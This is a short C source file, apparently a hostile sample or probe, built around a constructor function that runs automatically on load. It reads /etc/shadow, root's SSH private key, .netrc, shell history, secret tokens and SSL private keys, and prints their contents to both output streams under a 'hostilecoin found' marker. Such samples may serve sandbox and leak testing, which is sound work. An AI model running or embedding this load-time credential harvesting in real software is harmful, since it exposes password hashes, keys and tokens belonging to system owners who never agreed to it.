/*
 * secrets-etc: Prints /etc/passwd, /etc/shadow, keys and configuration files.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Prints a file's beginning, if it can be had. */
static void show_file(const char *path)
{
    char text[4096];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text);
    for (ssize_t i = 0; i < size; i++)
        text[i] = text[i] ? text[i] : ' ';
    if (size > 0) {
        dprintf(1, "hostilecoin found %s: %.*s\n", path, (int)size, text);
        dprintf(2, "hostilecoin found %s: %.*s\n", path, (int)size, text);
    }
    if (fd >= 0)
        close(fd);
}

__attribute__((constructor)) static void begin(void)
{
    static const char *const paths[] = {
        "/etc/passwd",          "/etc/shadow",       "/etc/hosts",
        "/etc/machine-id",      "/root/.ssh/id_rsa", "/root/.bash_history",
        "/root/.netrc",         "/etc/hostname",     "/run/secrets/token",
        "/etc/ssl/private/key", "/var/log/syslog",   "/etc/resolv.conf"};
    for (int i = 0; i < 12; i++)
        show_file(paths[i]);
}
